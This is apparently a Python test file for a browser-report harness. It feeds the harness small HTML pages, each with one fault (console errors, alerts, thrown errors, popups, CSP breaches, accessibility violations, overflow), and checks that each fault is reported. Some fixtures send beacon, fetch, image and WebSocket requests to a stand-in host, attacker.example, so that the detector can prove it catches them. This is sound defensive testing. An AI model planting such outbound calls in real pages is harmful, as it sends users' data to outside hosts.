"""The harness finds what it is to find: each page here has one fault, and is not quiet."""

import tempfile
from pathlib import Path

from harness import NARROW, axe_violations, open_report, overflow

PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>A page</title>{head}</head>
<body><main><h1>A page</h1>{body}</main></body></html>"""
POLICY = '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; script-src \'unsafe-inline\'">'

# Head, body, and how the fault that is found begins.
FAULTS = [
    ("", "<script>window.ran = 3</script>", "a run's script ran 3 times"),
    ("", "<script>console.error('no')</script>", "console: error: no"),
    ("", "<script>console.warn('no')</script>", "console: warning: no"),
    ("", "<script>throw new Error('thrown')</script>", "error: thrown"),
    ("", "<script>Promise.reject(new Error('refused'))</script>", "error: refused"),
    ("", "<script>alert('hello')</script>", "dialog: hello"),
    ("", "<img alt='' src='https://attacker.example/a.png'>", "request: https://attacker.example/a.png"),
    ("", "<img alt='' src='other.png'>", "request: file:///"),
    ("<style>main { background: url(//attacker.example/c) }</style>", "", "request: file://attacker.example/c"),
    ("", "<script>navigator.sendBeacon('https://attacker.example/b', 'x')</script>", "request: https://attacker.example/b"),
    ("", "<script>fetch('https://attacker.example/f').catch(() => 0)</script>", "request: https://attacker.example/f"),
    ("", "<script>new WebSocket('wss://attacker.example/w')</script>", "web socket: wss://attacker.example/w"),
    ("", "<script>window.open('about:blank')</script>", "window: "),
    (POLICY, "<p style='color: red'>text</p>", "policy: style-src"),
    (POLICY, "<img alt='' src='data:image/gif;base64,R0lGODlhAQABAAAAACw='>", "policy: img-src"),
]

# What axe-core has to find, by its rule.
VIOLATIONS = [
    ("image-alt", "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw='>"),
    ("color-contrast", "<p style='color: #999; background: #fff'>hardly there</p>"),
    ("button-name", "<button></button>"),
    ("label", "<input type='text'>"),
    ("aria-required-parent", "<div role='tab'>alone</div>"),
    ("heading-order", "<h4>too deep</h4>"),
]


def opened(started, directory, head, body, **how):
    path = Path(directory) / "page.html"
    path.write_text(PAGE.format(head=head, body=body))
    page = open_report(started, path, **how)
    page.wait_for_timeout(100)
    return page


def check_controls(started, _report, _facts):
    with tempfile.TemporaryDirectory() as directory:
        page = opened(started, directory, "", "<p>text</p><script>console.log('quiet')</script>")
        page.watch.assert_quiet()
        assert axe_violations(page) == []
        assert overflow(page) == 0
        for head, body, fault in FAULTS:
            page = opened(started, directory, head, body)
            try:
                page.watch.assert_quiet()
            except AssertionError as found:
                assert any(line.startswith(fault) for line in str(found).splitlines()), f"{body}: {found}"
            else:
                raise AssertionError(f"quiet, in spite of {head}{body}")
            page.context.close()
        for rule, body in VIOLATIONS:
            page = opened(started, directory, "", body)
            found = axe_violations(page)
            assert len(found) == 1 and found[0].startswith(f"{rule}: "), f"{body}: {found}"
            page.context.close()
        page = opened(started, directory, "", f"<p>{'w' * 300}</p>", viewport=NARROW)
        assert overflow(page) > 0
